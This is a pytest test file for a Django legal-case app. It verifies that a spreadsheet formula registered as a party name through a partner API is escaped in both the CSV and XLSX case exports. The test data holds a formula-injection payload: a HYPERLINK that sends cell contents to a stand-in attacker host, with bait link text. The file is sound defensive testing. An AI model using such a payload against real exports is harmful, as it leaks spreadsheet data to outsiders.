"""The partner organization's route to a spreadsheet formula: a party named ``=HYPERLINK(…)`` registered
through the partner API reached the case export as a live formula. It is stored as the text it is, and
the export neutralises it (zhiyuan.inputs.cells)."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pytest
from django.test import Client

from zhiyuan.cases.exporting import export_cases
from zhiyuan.cases.importing import COLUMNS
from zhiyuan.inputs.cells import TRIGGERS, restore

from .test_partner_api import BASE, bearer

pytestmark = pytest.mark.django_db
FORMULA = '=HYPERLINK("http://evil.example/?d="&A2,"点击查看详情")'


def test_a_formula_planted_through_the_partner_api_is_neutralised_in_both_exports(
    staff: dict[str, Any], orgs: dict[str, Any], tmp_path: Path
) -> None:
    body = {
        "applicants": [{"name": FORMULA}],
        "respondents": [{"name": "-李四"}],
        "description": "借款到期未还。",
        "cause": "民间借贷纠纷",
        "claim_amount": "30000.00",
        "on": "2025-09-01",
    }
    r = Client().post(BASE, body, content_type="application/json", **bearer(staff["partner"]))
    assert r.status_code == 201, r.content
    out = io.StringIO()
    assert export_cases(out, fmt="csv") == 1
    line = dict(zip(COLUMNS, list(csv.reader(io.StringIO(out.getvalue())))[1], strict=True))
    assert not any(v.startswith(TRIGGERS) for v in line.values())
    assert line["plaintiffs"] == "'" + FORMULA
    assert restore(line["plaintiffs"]) == FORMULA
    assert line["defendants"] == "'-李四"
    import openpyxl

    target = tmp_path / "cases.xlsx"
    export_cases(target, fmt="xlsx")
    cells = next(iter(openpyxl.load_workbook(target).worksheets[0].iter_rows(min_row=2)))
    assert not any(c.data_type == "f" for c in cells)
    assert cells[COLUMNS.index("plaintiffs")].value == "'" + FORMULA
